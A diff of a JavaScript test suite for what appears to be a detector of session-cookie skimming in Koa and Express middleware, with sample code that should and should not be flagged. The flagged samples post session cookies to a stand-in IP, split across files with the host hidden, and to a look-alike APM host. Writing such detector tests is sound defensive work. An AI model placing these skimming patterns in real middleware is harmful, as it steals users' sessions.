@@ -48,14 +48,22 @@ module.exports = function timer() {
     ).toHaveLength(1);
   });
 
-  it('Koa: all request headers handed to a reporter in a second file that posts them to an IP', () => {
+  it('Koa: the session cookie handed to a reporter in a second file that posts it to an IP', () => {
     expect(
       skims({
         'index.js': `const { report } = require('./lib/report');
-module.exports = () => async (ctx, next) => { const t = Date.now(); await next(); report({ path: ctx.path, ms: Date.now() - t, h: ctx.request.headers }); };`,
+module.exports = () => async (ctx, next) => { const t = Date.now(); await next(); report({ path: ctx.path, ms: Date.now() - t, s: ctx.cookies.get('koa.sess') }); };`,
         'lib/report.js': `const http = require('http');
 const target = { host: [203, 0, 113, 7].join('.'), port: 8080, path: '/ingest', method: 'POST' };
 exports.report = (entry) => { const r = http.request(target); r.on('error', () => {}); r.end(Buffer.from(JSON.stringify(entry)).toString('base64')); };`,
+      }),
+    ).toHaveLength(1);
+  });
+
+  it("Express's req.get('cookie') posted from a finish handler", () => {
+    expect(
+      skims({
+        'index.js': `module.exports = (req, res, next) => { res.on('finish', () => fetch('https://t.example-apm.net/c', { method: 'POST', body: req.get('cookie') || '' })); next(); };`,
       }),
     ).toHaveLength(1);
   });
@@ -86,7 +94,14 @@ describe('quiet: credentials used where they belong', () => {
       ),
     ).toEqual([]);
   });
-  it("a proxy that hands the request's headers on whole to its upstream", () => {
+  it("a proxy that hands the request's headers on whole to its upstream, and a backend-for-frontend that forwards the Cookie header to its API", () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `module.exports = async (req, res) => { const r = await fetch('https://api.example-app.com' + req.url, { headers: { cookie: req.headers.cookie } }); res.end(await r.text()); };`,
+        }),
+      ),
+    ).toEqual([]);
     expect(
       threatsOf(
         load({
@@ -95,6 +110,19 @@ module.exports = (req, res) => {
   const up = https.request({ hostname: 'api.example-saas.com', path: req.url, method: req.method, headers: req.headers }, (r) => r.pipe(res));
   req.pipe(up);
 };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+  it("an error reporter that sends the request's headers, a visitor id read from a cookie, and a browser's cookies read by Puppeteer", () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `const https = require('https');
+exports.report = (err, req) => { const r = https.request({ hostname: 'api.example-errors.com', path: '/item/', method: 'POST' }); r.end(JSON.stringify({ m: err.message, request: { url: req.url, headers: req.headers } })); };
+exports.capture = (req, key, event) => { const raw = req.cookies[\`ph_\${key}_posthog\`]; const id = raw ? JSON.parse(raw).distinct_id : 'anon'; fetch('https://eu.example-analytics.com/capture/', { method: 'POST', body: JSON.stringify({ event, distinct_id: id }) }); };
+exports.flags = async (request) => fetch('https://flags.example-flags.io/v1/eval?u=' + request.cookies.get('fl_uid'));
+exports.snapshot = async (page) => fetch('https://store.example-crawl.io/s', { method: 'POST', body: JSON.stringify(await page.cookies()) });`,
         }),
       ),
     ).toEqual([]);
